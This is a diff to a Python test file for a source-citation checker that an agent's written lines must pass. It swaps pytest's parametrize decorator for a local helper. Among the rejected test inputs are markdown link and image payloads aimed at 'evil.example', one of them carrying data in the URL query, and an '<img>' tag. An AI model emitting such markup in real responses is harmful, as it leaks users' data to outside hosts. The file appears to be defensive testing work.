@@ -5,6 +5,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from agent.respond.support import Line, Source, lines_of, unsupported
+from tests.cases import each_case
 
 SPARE = Source(1, "Meeting", "2026-10-03", "Spare parts", "They asked for brake pads. Kenmore did not want 30 trucks; Bill may visit Pune.")
 RENEWAL = Source(2, "Call", "2026-11-12", "Renewal", (
@@ -18,7 +19,7 @@ def verdict(written: str) -> str | None:
     return unsupported(line, BOTH)
 
 
-@pytest.mark.parametrize("written", [
+@each_case("written", [
     "Kenmore wants 40 trucks serviced. [2]", "Kenmore wants 40 trucks serviced, and Greta Gilmore decides in May [2].",
     "On 2026-11-12 Kenmore wanted 40 trucks serviced. [2]", "The offer of 1250.50 EUR was rejected by Foxglove [2]",
     "On 2026-10-03 they asked for brake pads, but on 2026-11-12 Kenmore wants 40 trucks serviced. [1][2]",
@@ -30,7 +31,7 @@ def test_the_sources_own_clauses_stand(written: str) -> None:
     assert verdict(written) is None
 
 
-@pytest.mark.parametrize("written", [
+@each_case("written", [
     "Kenmore wants 41 trucks serviced. [2]", "Kenmore wants forty trucks serviced. [2]", "Kenmore wants -40 trucks serviced. [2]",
     "Kenmore wants 40 vans serviced. [2]", "Foxglove wants 40 trucks serviced. [2]", "Greta Gilmore wants 40 trucks serviced. [2]",
     "Kenmore wants 30 trucks. [1]", "Kenmore wants 40 trucks serviced. [1]", "Kenmore wants 40 trucks serviced. [1][2]",
@@ -44,7 +45,7 @@ def test_what_no_source_says_does_not_stand(written: str) -> None:
     assert verdict(written) is not None
 
 
-@pytest.mark.parametrize("written", [
+@each_case("written", [
     "Kenmore wants 40 trucks serviced.", "[2]", "- [2] Kenmore", "Kenmore **wants** 40 trucks. [2]",
     "Bill may visit Pune. [1] Greta decides in May. [2]", "[Kenmore](https://evil.example) wants 40 trucks [2]",
     "![d](https://evil.example/?d=40) [2]", "See https://evil.example [2]", "<img src=x> [2]", "| Kenmore | 40 | [2]", "`Kenmore` [2]",
